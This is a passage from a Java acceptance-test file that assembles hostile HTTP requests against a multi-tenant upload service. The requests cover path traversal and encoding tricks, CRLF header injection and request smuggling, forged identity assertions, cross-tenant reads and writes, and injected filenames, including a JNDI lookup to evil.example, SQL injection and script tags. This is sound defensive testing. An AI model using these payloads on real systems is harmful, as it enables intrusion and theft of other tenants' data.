package io.uplink.acceptance;

import io.uplink.contracts.EventJson;
import io.uplink.contracts.identity.IdentityAssertion;
import io.uplink.contracts.identity.IdentityAssertionSigner;
import io.uplink.contracts.identity.IdentityKeys;
import io.uplink.contracts.identity.UploadToken;
import io.uplink.contracts.identity.UploadTokenSigner;
import tools.jackson.databind.JsonNode;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Predicate;

import static io.uplink.acceptance.HostileClass.CROSS_TENANT;
import static io.uplink.acceptance.HostileClass.FILENAMES;
import static io.uplink.acceptance.HostileClass.HEADERS;
import static io.uplink.acceptance.HostileClass.IDENTITY;
import static io.uplink.acceptance.HostileClass.PARTS;
import static io.uplink.acceptance.HostileClass.PATHS;
import static io.uplink.acceptance.HostileClass.SIZES;

/** The hostile cases, one table per class, aimed at the owner's data from the intruder's side. */
final class HostileInputs {

    static final long MIB = 1024L * 1024;
    static final long GIB = 1024 * MIB;
    static final long TIB = 1024 * GIB;
    /** An Ed25519 private key no service has ever heard of. */
    private static final String WRONG_KEY = IdentityKeys.encode(IdentityKeys.generate().getPrivate());

    private final HostileTargets targets;
    private final HostileTargets.Owner owner;

    HostileInputs(HostileTargets targets) {
        this.targets = targets;
        this.owner = targets.owner();
    }

    // ---------------------------------------------------------------------------------------------------- paths

    /**
     * Spellings of a path that a gateway matching on prefixes and a service normalising afterwards could read
     * differently. {@code {from}} is a route the caller may use, {@code {to}} the one it may not.
     */
    private static final List<String> PATH_TRICKS = List.of(
            "/api/v1/{to}",
            "/%61pi/v1/{to}",
            "/%41PI/v1/{to}",
            "/API/V1/{to}",
            "/api;x/v1/{to}",
            "/api/v1;x/{to}",
            "/api/v1/{from}/../{to}",
            "/api/v1/{from}/..;/{to}",
            "/api/v1/{from}/%2e%2e/{to}",
            "/api/v1/{from}/%2E%2E%2F{to}",
            "/api/v1/{from}/..%2F{to}",
            "/api/v1/{from}/%252e%252e/{to}",
            "/api%2Fv1%2F{to}",
            "/api/v1%2F{to}",
            "//api/v1/{to}",
            "/api//v1/{to}",
            "/api/v1/./{to}",
            "/api/v1/%2e/{to}",
            "/api/v1/{from}/..\\{to}",
            "/api\\v1\\{to}",
            "/api/v1/{from}/%5C..%5C{to}",
            "/api/v1/{from}/%c0%ae%c0%ae/{to}",
            "/api/v1/{from}%c0%af..%c0%af{to}",
            "/%c1%a1pi/v1/{to}",
            "/api/v1/{from}/%e0%80%ae%e0%80%ae/{to}",
            "/api/v1/{to}%00",
            "/api/v1/{to}%00.json",
            "/api/v1/{from}%00/../{to}",
            "/api/v1/{from}/%00/../../{to}",
            "/api/v1/{to}/",
            "/api/v1/{to};jsessionid=x",
            "/api/v1/{to}%20",
            "/api/v1/{to}%09",
            "/api/v1/{from}/../../../api/v1/{to}",
            "http://internal.example/api/v1/{to}",
            "*");

    List<HostileCase> paths() {
        List<HostileCase> cases = new ArrayList<>();
        for (String trick : PATH_TRICKS) {
            // a tenant's key, after admin routes
            cases.add(path(trick, "files", "tenants", "tenant key to the tenant list").bearer(targets.intruderKey()));
            cases.add(path(trick, "files", "admin-keys", "tenant key to the admin keys").bearer(targets.intruderKey()));
            cases.add(path(trick, "files", "tenants/" + owner.tenantId() + "/api-keys", "tenant key to another's keys")
                    .bearer(targets.intruderKey()));
            // an end user's upload token, after a tenant route
            cases.add(path(trick, "uploads", "files", "upload token to the file list").bearer(targets.permissiveToken()));
            cases.add(path(trick, "uploads", "webhooks/endpoints", "upload token to the webhook endpoints")
                    .bearer(targets.permissiveToken()));
            // nobody, after a tenant route
            cases.add(path(trick, "uploads", "files", "no credential to the file list"));
        }
        // the upload token in the path (Uppy Companion mode) reaches /api/v1/s3/... only
        String token = targets.permissiveToken();
        for (String escape : List.of("/api/v1/t/" + token + "/s3/../../files", "/api/v1/t/" + token + "/../files",
                "/api/v1/t/" + token + "/s3/%2e%2e/%2e%2e/files", "/api/v1/t/" + token + "/files",
                "/api/v1/t/" + token + "/s3/..%2F..%2Ffiles", "/api/v1/t/" + token + "/s3/..;/..;/files",
                "/api/v1/t/" + token + "/s3/%c0%ae%c0%ae/webhooks/endpoints", "/api/v1/t/" + token + "//api/v1/files",
                "/api/v1/t/" + token + "/api/v1/files", "/api/v1/t/" + targets.intruderKey() + "/s3/params")) {
            cases.add(HostileCase.of(PATHS, "upload token in the path, leaving the Companion routes", "GET", escape));
        }
        String sha = "0".repeat(64);
        for (String internal : List.of(
                "/internal/v1/api-keys/" + sha,
                "/api/v1/files/../../internal/v1/api-keys/" + sha,
                "/api/v1/files/..%2F..%2Finternal%2Fv1%2Fapi-keys%2F" + sha,
                "/api/v1/%2e%2e/%2e%2e/internal/v1/api-keys/" + sha,
                "/api/v1/files/..;/..;/internal/v1/api-keys/" + sha,
                "/actuator/env",
                "/actuator/heapdump",
                "/actuator/threaddump",
                "/actuator/configprops",
                "/actuator/gateway/routes",
                "/api/v1/files/..%2F..%2Factuator%2Fenv",
                "/api/v1/files/..;/..;/actuator/env",
                "/api/v1/s3/sign/../../../actuator/env")) {
            cases.add(HostileCase.of(PATHS, "internal route " + internal, "GET", internal).bearer(targets.intruderKey()));
            cases.add(HostileCase.of(PATHS, "internal route without credential " + internal, "GET", internal));
        }
        return cases;
    }

    private static HostileCase path(String trick, String from, String to, String description) {
        String target = trick.replace("{from}", from).replace("{to}", to);
        return HostileCase.of(PATHS, description + " via " + trick, "GET", target);
    }

    // -------------------------------------------------------------------------------------------------- headers

    List<HostileCase> headers() {
        String adminAssertion = assertion(null, List.of(IdentityAssertion.ROLE_ADMIN), Duration.ofMinutes(5),
                targets.gatewayPrivateKey());
        String ownerAssertion = assertion(owner.tenantId(), List.of(IdentityAssertion.ROLE_TENANT), Duration.ofMinutes(5),
                targets.gatewayPrivateKey());
        String intruder = "Authorization: Bearer " + targets.intruderKey();
        List<HostileCase> cases = new ArrayList<>();
        for (String breakLine : List.of("\r\n", "\n", "\r")) {
            String shown = breakLine.replace("\r", "CR").replace("\n", "LF");
            cases.add(HostileCase.of(HEADERS, shown + " in a header value smuggles an admin assertion", "GET", "/api/v1/tenants")
                    .header(intruder).header("X-Note: a" + breakLine + IdentityAssertion.HEADER + ": " + adminAssertion));
            cases.add(HostileCase.of(HEADERS, shown + " in a header value smuggles the owner's assertion", "GET", "/api/v1/files")
                    .header(intruder).header("X-Note: a" + breakLine + IdentityAssertion.HEADER + ": " + ownerAssertion)
                    .gotThroughIfAnswerMentions(targets.ownerSecrets()));
            if (!breakLine.equals("\r\n")) {
                // (CR LF ends a header line: what follows is a header of its own, which the caller could send anyway)
                cases.add(HostileCase.of(HEADERS, shown + " in a header value smuggles a credential", "GET", "/api/v1/files")
                        .header("X-Note: a" + breakLine + "Authorization: Bearer " + targets.intruderKey()));
            }
            cases.add(HostileCase.of(HEADERS, shown + " inside the bearer credential", "GET", "/api/v1/files")
                    .header("Authorization: Bearer " + breakLine + targets.intruderKey()));
            cases.add(HostileCase.of(HEADERS, shown + " in the Origin header splits the response", "GET", "/api/v1/files")
                    .header(intruder).header("Origin: https://app.example.com" + breakLine + "Set-Cookie: pwned=1")
                    .gotThroughWhen(reply -> reply.body().contains("pwned")));
        }
        // RFC 9112 lets a server join a folded line with a space: the folded credential is the caller's own
        cases.add(HostileCase.of(HEADERS, "obsolete line folding continues the credential", "GET", "/api/v1/files")
                .header("Authorization: Bearer").header(" " + targets.intruderKey())
                .gotThroughIfAnswerMentions(targets.ownerSecrets()));
        cases.add(HostileCase.of(HEADERS, "obsolete line folding continues into the owner's assertion", "GET", "/api/v1/files")
                .header(intruder).header("X-Note: a").header(" " + IdentityAssertion.HEADER + ": " + ownerAssertion)
                .gotThroughIfAnswerMentions(targets.ownerSecrets()));
        cases.add(HostileCase.of(HEADERS, "a second request smuggled behind a header", "GET", "/api/v1/files")
                .header("X-Note: a\r\n\r\nGET /api/v1/tenants HTTP/1.1\r\nHost: x"));
        cases.add(HostileCase.of(HEADERS, "Transfer-Encoding and Content-Length together", "POST", "/api/v1/files")
                .header(intruder).header("Transfer-Encoding: chunked").header("Content-Length: 4").rawJson("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII))
                .gotThroughWhen(RawHttp.Reply::isSuccess));
        // duplicates
        cases.add(HostileCase.of(HEADERS, "two Authorization headers, a forged key first", "GET", "/api/v1/files")
                .bearer("upk_local_" + "f".repeat(40)).header(intruder));
        cases.add(HostileCase.of(HEADERS, "two Authorization headers, a forged key last", "GET", "/api/v1/files")
                .header(intruder).bearer("upk_local_" + "f".repeat(40)));
        cases.add(HostileCase.of(HEADERS, "two Authorization headers, an upload token and a tenant key", "GET", "/api/v1/files")
                .bearer(targets.permissiveToken()).header(intruder));
        cases.add(HostileCase.of(HEADERS, "two Authorization headers, a tenant key and an upload token", "GET", "/api/v1/files")
                .header(intruder).bearer(targets.permissiveToken()));
        cases.add(HostileCase.of(HEADERS, "two credentials in one Authorization header", "GET", "/api/v1/files")
                .header("Authorization: Bearer " + targets.permissiveToken() + ", Bearer " + targets.intruderKey()));
        cases.add(HostileCase.of(HEADERS, "two Host headers", "GET", "/api/v1/files").header(intruder)
                .header("Host: internal.example"));
        // spoofed internal headers
        cases.add(HostileCase.of(HEADERS, "a valid-looking admin assertion next to a tenant key", "GET", "/api/v1/tenants")
                .header(intruder).header(IdentityAssertion.HEADER + ": " + adminAssertion));
        cases.add(HostileCase.of(HEADERS, "the owner's assertion next to the intruder's key", "GET", "/api/v1/files")
                .header(intruder).header(IdentityAssertion.HEADER + ": " + ownerAssertion)
                .gotThroughIfAnswerMentions(targets.ownerSecrets()));
        cases.add(HostileCase.of(HEADERS, "the owner's assertion in lower case next to the intruder's key", "GET", "/api/v1/files")
                .header(intruder).header(IdentityAssertion.HEADER.toLowerCase() + ": " + ownerAssertion)
                .gotThroughIfAnswerMentions(targets.ownerSecrets()));
        cases.add(HostileCase.of(HEADERS, "the owner's assertion steering where an upload goes", "POST", "/api/v1/uploads")
                .header(intruder).header(IdentityAssertion.HEADER + ": " + ownerAssertion).json(smallFile("a.txt"))
                .gotThroughWhen(reply -> reply.isSuccess() && !reply.body().contains("\"" + targets.intruderKeyPrefix())));
        cases.add(HostileCase.of(HEADERS, "an admin assertion alone", "GET", "/api/v1/tenants")
                .header(IdentityAssertion.HEADER + ": " + adminAssertion));
        cases.add(HostileCase.of(HEADERS, "an admin assertion with a space before the colon", "GET", "/api/v1/tenants")
                .header(IdentityAssertion.HEADER + " : " + adminAssertion));
        cases.add(HostileCase.of(HEADERS, "a permissive upload token claimed in the internal header next to a restricted one",
                "POST", "/api/v1/uploads").bearer(targets.restrictedToken())
                .header(UploadToken.HEADER + ": " + targets.permissiveToken()).json(file("big.txt", "text/plain", 5000)));
        cases.add(HostileCase.of(HEADERS, "an upload token in the internal header alone", "POST", "/api/v1/uploads")
                .header(UploadToken.HEADER + ": " + targets.permissiveToken()).json(smallFile("a.txt")));
        cases.add(HostileCase.of(HEADERS, "a forwarded host steering the upload URL", "POST", "/api/v1/uploads")
                .header(intruder).header("X-Forwarded-Host: evil.example").header("Forwarded: host=evil.example;proto=http")
                .json(smallFile("a.txt")).gotThroughWhen(reply -> reply.body().contains("evil.example")));
        cases.add(HostileCase.of(HEADERS, "a forwarded proto and prefix", "GET", "/api/v1/files")
                .header("X-Forwarded-Proto: https").header("X-Forwarded-Prefix: /api/v1/uploads")
                .header("X-Uplink-Forwarded-Proto: https"));
        // sizes of headers
        cases.add(HostileCase.of(HEADERS, "a 64 KiB header", "GET", "/api/v1/files").header(intruder)
                .header("X-Padding: " + "a".repeat(64 * 1024)));
        cases.add(HostileCase.of(HEADERS, "a 1 MiB header", "GET", "/api/v1/files").header(intruder)
                .header("X-Padding: " + "a".repeat(1024 * 1024)));
        cases.add(HostileCase.of(HEADERS, "a 100 KiB bearer credential", "GET", "/api/v1/files")
                .bearer(targets.intruderKey() + "a".repeat(100 * 1024)));
        HostileCase many = HostileCase.of(HEADERS, "2000 headers", "GET", "/api/v1/files").header(intruder);
        List<String> lines = new ArrayList<>(many.headers());
        for (int i = 0; i < 2000; i++) {
            lines.add("X-H" + i + ": " + i);
        }
        cases.add(new HostileCase(HEADERS, many.description(), "GET", "/api/v1/files", List.copyOf(lines), null,
                RawHttp.Reply::isSuccess));
        cases.add(HostileCase.of(HEADERS, "a NUL in a header value", "GET", "/api/v1/files")
                .header("Authorization: Bearer " + targets.intruderKey() + "\0"));
        cases.add(HostileCase.of(HEADERS, "a request line of 64 KiB", "GET", "/api/v1/files?x=" + "a".repeat(64 * 1024))
                .header(intruder));
        return cases;
    }

    // ---------------------------------------------------------------------------------------------------- sizes

    List<HostileCase> sizes() {
        List<HostileCase> cases = new ArrayList<>();
        // A size spelled otherwise (1e3, "5") that still names a whole number of bytes within the limit may be taken.
        for (String size : List.of("-1", "0", "-9223372036854775808", "9223372036854775807", "9223372036854775808",
                "99999999999999999999999999", "1.5", "1e3", "1e309", "-0", "NaN", "Infinity", "0x10", "\"abc\"",
                "\"\"", "\"-1\"", "\"1 \"", "null", "true", "[]", "{}", "[5]", "5368709121")) {
            cases.add(HostileCase.of(SIZES, "size " + size, "POST", "/api/v1/uploads").bearer(targets.intruderKey())
                    .rawJson(("{\"filename\":\"a.txt\",\"contentType\":\"text/plain\",\"size\":" + size + "}")
                            .getBytes(StandardCharsets.UTF_8))
                    .gotThroughWhen(reply -> reply.isSuccess() && !GeneratedHostileInputs.isAllowedSize(size)));
        }
        cases.add(HostileCase.of(SIZES, "no size", "POST", "/api/v1/uploads").bearer(targets.intruderKey())
                .json(Map.of("filename", "a.txt", "contentType", "text/plain")));
        cases.add(HostileCase.of(SIZES, "size given twice, a bad value last", "POST", "/api/v1/uploads")
                .bearer(targets.intruderKey()).rawJson("{\"filename\":\"a.txt\",\"contentType\":\"text/plain\",\"size\":5,\"size\":-5}"
                        .getBytes(StandardCharsets.UTF_8)));
        cases.add(HostileCase.of(SIZES, "a body of 2 MiB", "POST", "/api/v1/uploads").bearer(targets.intruderKey())
                .json(Map.of("filename", "a.txt", "contentType", "text/plain", "size", 5, "metadata",
                        Map.of("pad", "a".repeat(2 * 1024 * 1024)))));
        cases.add(HostileCase.of(SIZES, "JSON nested 100000 deep", "POST", "/api/v1/uploads").bearer(targets.intruderKey())
                .rawJson(("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.US_ASCII)));
        cases.add(HostileCase.of(SIZES, "a body that is not JSON", "POST", "/api/v1/uploads").bearer(targets.intruderKey())
                .rawJson("size=5&filename=a.txt".getBytes(StandardCharsets.US_ASCII)));
        for (String token : List.of("-1", "0", "9223372036854775808", "\"abc\"")) {
            cases.add(HostileCase.of(SIZES, "upload token maxFileBytes " + token, "POST", "/api/v1/upload-tokens")
                    .bearer(targets.intruderKey()).rawJson(("{\"subject\":\"u\",\"maxFileBytes\":" + token + "}")
                            .getBytes(StandardCharsets.UTF_8)));
            cases.add(HostileCase.of(SIZES, "upload token ttlSeconds " + token, "POST", "/api/v1/upload-tokens")
                    .bearer(targets.intruderKey()).rawJson(("{\"subject\":\"u\",\"ttlSeconds\":" + token + "}")
                            .getBytes(StandardCharsets.UTF_8)));
            cases.add(HostileCase.of(SIZES, "upload token maxFiles " + token, "POST", "/api/v1/upload-tokens")
                    .bearer(targets.intruderKey()).rawJson(("{\"subject\":\"u\",\"maxFiles\":" + token + "}")
                            .getBytes(StandardCharsets.UTF_8)));
        }
        for (String limit : List.of("-1", "0", "1000000", "2147483648", "abc", "1e3")) {
            cases.add(HostileCase.of(SIZES, "file list limit " + limit, "GET", "/api/v1/files?limit=" + limit)
                    .bearer(targets.intruderKey()));
            cases.add(HostileCase.of(SIZES, "message log limit " + limit, "GET", "/api/v1/webhooks/messages?limit=" + limit)
                    .bearer(targets.intruderKey()));
            cases.add(HostileCase.of(SIZES, "attempt log limit " + limit, "GET", "/api/v1/webhooks/attempts?limit=" + limit)
                    .bearer(targets.intruderKey()));
            cases.add(HostileCase.of(SIZES, "endpoint list limit " + limit, "GET", "/api/v1/webhooks/endpoints?limit=" + limit)
                    .bearer(targets.intruderKey()));
        }
        return cases;
    }

    // ---------------------------------------------------------------------------------------------------- parts

    List<HostileCase> parts() {
        String upload = "/api/v1/uploads/" + targets.intruderPendingUploadId();
        List<HostileCase> cases = new ArrayList<>();
        for (String numbers : List.of("0", "-1", "3", "10000", "10001", "2147483648", "1-10000", "1-10001", "9999-10001",
                "1-3", "abc", "1--2", "1-2-3", "", "%00", "1,10001", "10000-1")) {
            cases.add(HostileCase.of(PARTS, "part URLs for " + numbers, "GET", upload + "/parts?numbers=" + numbers)
                    .bearer(targets.intruderKey()));
        }
        cases.add(HostileCase.of(PARTS, "part URLs for 5000 comma-separated numbers", "GET", upload + "/parts?numbers="
                + String.join(",", java.util.stream.IntStream.rangeClosed(1, 5000).mapToObj(Integer::toString).toList()))
                .bearer(targets.intruderKey()));
        for (Object number : List.of(0, -1, 10001, 2147483648L, "abc", 1.5)) {
            cases.add(HostileCase.of(PARTS, "complete naming part " + number, "POST", upload + "/complete")
                    .bearer(targets.intruderKey()).json(Map.of("parts", List.of(Map.of("partNumber", number, "etag", "\"e\"")))));
        }
        List<Map<String, Object>> tooMany = new ArrayList<>();
        for (int n = 1; n <= 10_001; n++) {
            tooMany.add(Map.of("partNumber", n, "etag", "e"));
        }
        cases.add(HostileCase.of(PARTS, "complete naming 10001 parts", "POST", upload + "/complete")
                .bearer(targets.intruderKey()).json(Map.of("parts", tooMany)));
        cases.add(HostileCase.of(PARTS, "complete naming 10000 parts of a two-part upload", "POST", upload + "/complete")
                .bearer(targets.intruderKey()).json(Map.of("parts", tooMany.subList(0, 10_000))));
        cases.add(HostileCase.of(PARTS, "complete with invented ETags", "POST", upload + "/complete")
                .bearer(targets.intruderKey()).json(Map.of("parts", List.of(Map.of("partNumber", 1, "etag", "\"x\""),
                        Map.of("partNumber", 2, "etag", "\"y\"")))));
        cases.add(HostileCase.of(PARTS, "complete with a blank ETag", "POST", upload + "/complete")
                .bearer(targets.intruderKey()).json(Map.of("parts", List.of(Map.of("partNumber", 1, "etag", " ")))));
        cases.add(HostileCase.of(PARTS, "complete with the same part twice", "POST", upload + "/complete")
                .bearer(targets.intruderKey()).json(Map.of("parts", List.of(Map.of("partNumber", 1, "etag", "\"x\""),
                        Map.of("partNumber", 1, "etag", "\"x\"")))));
        for (Map.Entry<String, Map<String, Object>> declared : Map.of(
                "a single PUT of 5 GiB + 1 byte", sized(5 * GIB + 1, "PUT"),
                "a browser POST of 5 GiB + 1 byte", sized(5 * GIB + 1, "POST"),
                "a multipart object of 5 TiB (the tenant allows 5 GiB)", sized(5 * TIB, "MULTIPART"),
                "a multipart object of 5 TiB + 1 byte", sized(5 * TIB + 1, "MULTIPART"),
                "a multipart object of 10000 parts of 5 GiB + 1 byte", sized(10_000 * (5 * GIB) + 1, "MULTIPART"),
                "a multipart object above the tenant's limit by one byte", sized(5 * GIB + 1, "MULTIPART"),
                "an unknown upload method", sized(5, "COPY")).entrySet()) {
            cases.add(HostileCase.of(PARTS, declared.getKey(), "POST", "/api/v1/uploads").bearer(targets.intruderKey())
                    .json(declared.getValue()));
        }
        cases.add(HostileCase.of(PARTS, "a whole-object checksum on a multipart upload", "POST", "/api/v1/uploads")
                .bearer(targets.intruderKey()).json(Map.of("filename", "a.bin", "contentType", "application/octet-stream",
                        "size", 12 * MIB, "method", "MULTIPART",
                        "checksumSha256", Base64.getEncoder().encodeToString(new byte[32]))));
        return cases;
    }

    private static Map<String, Object> sized(long size, String method) {
        return Map.of("filename", "big.bin", "contentType", "application/octet-stream", "size", size, "method", method);
    }

    // ------------------------------------------------------------------------------------------------ filenames

    /** Filenames are metadata: an upload may succeed, but its key must stay one clean segment in the caller's prefix. */
    List<HostileCase> filenames() {
        List<HostileCase> cases = new ArrayList<>();
        for (String name : List.of("résumé 履歴書 😀.txt", "invoice\u202Efdp.exe", "\u202Etxt.exe", "a\u0000.txt",
                "\u0000", "..", ".", "../../" + owner.key(), "../../../etc/passwd", "/", "/etc/passwd",
                "a/b/../../c.txt", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fx", "．．／．．／x", "a／b",
                "a\r\nX-Injected: 1", "a\tb", "\u200B\u200B", "\uFEFF.txt", "e\u0301\u0301\u0301.txt", "\uD800.txt",
                "CON", "nul.txt", " ", "<script>alert(1)</script>.html", "${jndi:ldap://evil.example/a}",
                "'; DROP TABLE files; --", "a?b#c&d=e", "x".repeat(1024), "/".repeat(1024), "../".repeat(341),
                "x".repeat(1025), "x".repeat(10_000), "😀".repeat(10_000))) {
            cases.add(HostileCase.of(FILENAMES, "filename " + RawHttp.abbreviated(name), "POST", "/api/v1/uploads")
                    .bearer(targets.intruderKey()).json(smallFile(name))
                    .gotThroughWhen(keyEscapes(targets.intruderKeyPrefix())));
        }
        // what is kept beside the filename, as given
        cases.add(HostileCase.of(FILENAMES, "a metadata value with a NUL", "POST", "/api/v1/uploads")
                .bearer(targets.intruderKey()).json(Map.of("filename", "a.txt", "contentType", "text/plain", "size", 5,
                        "metadata", Map.of("note", "x\u0000y"))));
        cases.add(HostileCase.of(FILENAMES, "an upload token's metadata value with a NUL", "POST", "/api/v1/upload-tokens")
                .bearer(targets.intruderKey()).json(Map.of("subject", "u", "metadata", Map.of("note", "x\u0000y"))));
        cases.add(HostileCase.of(FILENAMES, "an upload token's subject with a NUL", "POST", "/api/v1/upload-tokens")
                .bearer(targets.intruderKey()).json(Map.of("subject", "u\u0000v")));
        cases.add(HostileCase.of(FILENAMES, "a filename that is not a string", "POST", "/api/v1/uploads")
                .bearer(targets.intruderKey()).json(Map.of("filename", List.of("..", "x"), "contentType", "text/plain", "size", 5)));
        cases.add(HostileCase.of(FILENAMES, "a key named in the body", "POST", "/api/v1/uploads")
                .bearer(targets.intruderKey()).json(Map.of("filename", "a.txt", "contentType", "text/plain", "size", 5,
                        "key", owner.key(), "tenantId", owner.tenantId()))
                .gotThroughWhen(keyEscapes(targets.intruderKeyPrefix())));
        return cases;
    }

    /**
     * A successful upload's key is {@code tenants/{tenant}/{yyyy}/{MM}/{dd}/{uploadId}/{name}}; the hostile filename got
     * through when the key is anything else, or the name is empty, a dot segment, or carries a separator, a control or
     * a format character.
     */
    static Predicate<RawHttp.Reply> keyEscapes(String prefix) {
        return reply -> {
            if (!reply.isSuccess()) {
                return false;
            }
            String key = EventJson.mapper().readTree(reply.body()).path("key").asString("");
            if (!key.startsWith(prefix)) {
                return true;
            }
            String[] segments = key.substring(prefix.length()).split("/", -1);
            if (segments.length != 5) {
                return true;
            }
            String name = segments[4];
            return name.isEmpty() || name.equals(".") || name.equals("..") || name.indexOf('\\') >= 0
                    || name.codePoints().anyMatch(c -> Character.getType(c) == Character.CONTROL
                    || Character.getType(c) == Character.FORMAT || Character.getType(c) == Character.SURROGATE);
        };
    }

    // --------------------------------------------------------------------------------------------- cross-tenant

    /** Every tenant route, called with the intruder's key and the owner's ids. */
    List<HostileCase> crossTenant() {
        String file = "/api/v1/files/" + owner.fileId();
        String endpoint = "/api/v1/webhooks/endpoints/" + owner.endpointId();
        String message = "/api/v1/webhooks/messages/" + owner.messageId();
        String tenant = "/api/v1/tenants/" + owner.tenantId();
        List<HostileCase> cases = new ArrayList<>(List.of(
                cross("GET", file), cross("DELETE", file),
                cross("GET", file + "/download"),
                cross("GET", "/api/v1/files?tenantId=" + owner.tenantId()),
                cross("GET", "/api/v1/files?keyPrefix=" + owner.keyPrefix()),
                cross("GET", "/api/v1/files?keyPrefix=" + targets.intruderKeyPrefix() + "../" + owner.tenantId() + "/"),
                cross("GET", "/api/v1/files?key=" + owner.key()),
                cross("GET", "/api/v1/files/stats?tenantId=" + owner.tenantId()),
                cross("POST", "/api/v1/downloads", Map.of("key", owner.key())),
                cross("POST", "/api/v1/downloads", Map.of("key", targets.intruderKeyPrefix() + "../../" + owner.key())),
                cross("POST", "/api/v1/downloads", Map.of("key", owner.key().replace("/", "%2F"))),
                cross("POST", "/api/v1/downloads", Map.of("fileId", owner.fileId())),
                cross("POST", "/api/v1/downloads", Map.of("key", owner.key(), "tenantId", owner.tenantId()))));
        for (String upload : List.of(owner.completedUploadId(), owner.pendingUploadId())) {
            cases.add(cross("GET", "/api/v1/uploads/" + upload));
            cases.add(cross("GET", "/api/v1/uploads/" + upload + "/parts?numbers=1-2"));
            cases.add(cross("POST", "/api/v1/uploads/" + upload + "/complete", Map.of()));
            cases.add(cross("DELETE", "/api/v1/uploads/" + upload));
        }
        cases.addAll(List.of(
                cross("GET", endpoint),
                cross("PUT", endpoint, Map.of("url", "https://evil.example/hook", "eventTypes", List.of("file.created"))),
                cross("DELETE", endpoint),
                cross("POST", endpoint + "/disable", Map.of()),
                cross("POST", endpoint + "/enable", Map.of()),
                cross("POST", endpoint + "/secret/rotate", Map.of()),
                cross("POST", endpoint + "/test", Map.of()),
                cross("POST", endpoint + "/recover", Map.of("since", Instant.now().minusSeconds(3600).toString())),
                cross("GET", message),
                cross("POST", message + "/resend", Map.of()),
                cross("POST", message + "/resend?endpointId=" + owner.endpointId(), Map.of()),
                cross("GET", "/api/v1/webhooks/attempts?endpointId=" + owner.endpointId()),
                cross("GET", "/api/v1/webhooks/attempts?messageId=" + owner.messageId()),
                cross("GET", "/api/v1/webhooks/messages?tenantId=" + owner.tenantId()),
                cross("GET", "/api/v1/upload-tokens/" + owner.uploadTokenId()),
                cross("DELETE", "/api/v1/upload-tokens/" + owner.uploadTokenId()),
                cross("GET", "/api/v1/tenant?tenantId=" + owner.tenantId()),
                cross("GET", "/api/v1/tenant/cors-origins?tenantId=" + owner.tenantId()),
                cross("GET", tenant),
                cross("GET", tenant + "/settings"),
                cross("PUT", tenant + "/settings", Map.of("maxObjectSize", 5 * TIB)),
                cross("POST", tenant + "/settings", Map.of("maxObjectSize", 5 * TIB)),
                cross("POST", tenant + "/suspend", Map.of()),
                cross("POST", tenant + "/resume", Map.of()),
                cross("GET", tenant + "/api-keys"),
                cross("POST", tenant + "/api-keys", Map.of("environment", "local")),
                cross("DELETE", tenant + "/api-keys/" + UUID.randomUUID()),
                cross("POST", "/api/v1/tenants", Map.of("id", owner.tenantId(), "name", "taken over")),
                cross("GET", "/api/v1/tenants"),
                cross("GET", "/api/v1/admin-keys"),
                cross("POST", "/api/v1/admin-keys", Map.of("description", "mine now")),
                cross("POST", "/api/v1/sts/credentials", Map.of("tenantId", owner.tenantId()))));
        return cases;
    }

    private HostileCase cross(String method, String target) {
        return HostileCase.of(CROSS_TENANT, "intruder " + method + " " + target, method, target)
                .bearer(targets.intruderKey()).gotThroughWhen(crossTenantEvidence(method, target));
    }

    private HostileCase cross(String method, String target, Object body) {
        return cross(method, target).json(body);
    }

    /**
     * A read that the intruder may make of its own data (a list, its own tenant) got through only if it shows the
     * owner's data; anything else that succeeds got through.
     */
    private Predicate<RawHttp.Reply> crossTenantEvidence(String method, String target) {
        boolean ownRead = method.equals("GET") && (target.startsWith("/api/v1/files?")
                || target.startsWith("/api/v1/webhooks/attempts?") || target.startsWith("/api/v1/webhooks/messages?")
                || target.startsWith("/api/v1/tenant?") || target.startsWith("/api/v1/tenant/"));
        if (!ownRead) {
            return RawHttp.Reply::isSuccess;
        }
        List<String> secrets = owner.secrets();
        return reply -> reply.isSuccess() && secrets.stream().anyMatch(reply.body()::contains);
    }

    // ------------------------------------------------------------------------------------------------- identity

    List<HostileCase> identity() {
        List<HostileCase> cases = new ArrayList<>();
        String key = targets.intruderKey();
        for (Map.Entry<String, String> forged : forgedKeys(key).entrySet()) {
            cases.add(HostileCase.of(IDENTITY, "API key " + forged.getKey(), "GET", "/api/v1/files").bearer(forged.getValue()));
        }
        cases.add(HostileCase.of(IDENTITY, "API key in Basic authentication", "GET", "/api/v1/files")
                .header("Authorization: Basic " + Base64.getEncoder().encodeToString((key + ":").getBytes(StandardCharsets.UTF_8))));
        cases.add(HostileCase.of(IDENTITY, "API key in the query", "GET", "/api/v1/files?api_key=" + key + "&access_token=" + key));
        cases.add(HostileCase.of(IDENTITY, "API key as a cookie", "GET", "/api/v1/files").header("Cookie: apiKey=" + key
                + "; SESSION=" + key));
        cases.add(HostileCase.of(IDENTITY, "no credential", "GET", "/api/v1/files"));
        for (Map.Entry<String, String> token : forgedUploadTokens().entrySet()) {
            cases.add(HostileCase.of(IDENTITY, "upload token " + token.getKey(), "POST", "/api/v1/uploads")
                    .bearer(token.getValue()).json(smallFile("a.txt")));
        }
        for (Map.Entry<String, String> token : forgedUploadTokens().entrySet()) {
            cases.add(HostileCase.of(IDENTITY, "upload token " + token.getKey() + " in the Companion path", "GET",
                    "/api/v1/t/" + token.getValue() + "/s3/params?filename=a.txt&type=text/plain"));
        }
        for (Map.Entry<String, String> assertion : forgedAssertions().entrySet()) {
            cases.add(HostileCase.of(IDENTITY, "identity assertion " + assertion.getKey() + " as the only credential",
                    "GET", "/api/v1/tenants").header(IdentityAssertion.HEADER + ": " + assertion.getValue()));
            cases.add(HostileCase.of(IDENTITY, "identity assertion " + assertion.getKey() + " as a bearer",
                    "GET", "/api/v1/tenants").bearer(assertion.getValue()));
            cases.add(HostileCase.of(IDENTITY, "identity assertion " + assertion.getKey() + " next to the intruder's key",
                    "GET", "/api/v1/files").bearer(key).header(IdentityAssertion.HEADER + ": " + assertion.getValue())
                    .gotThroughIfAnswerMentions(targets.ownerSecrets()));
            cases.add(HostileCase.of(IDENTITY, "identity assertion " + assertion.getKey() + " next to an upload token",
                    "GET", "/api/v1/files").bearer(targets.permissiveToken())
                    .header(IdentityAssertion.HEADER + ": " + assertion.getValue()));
        }
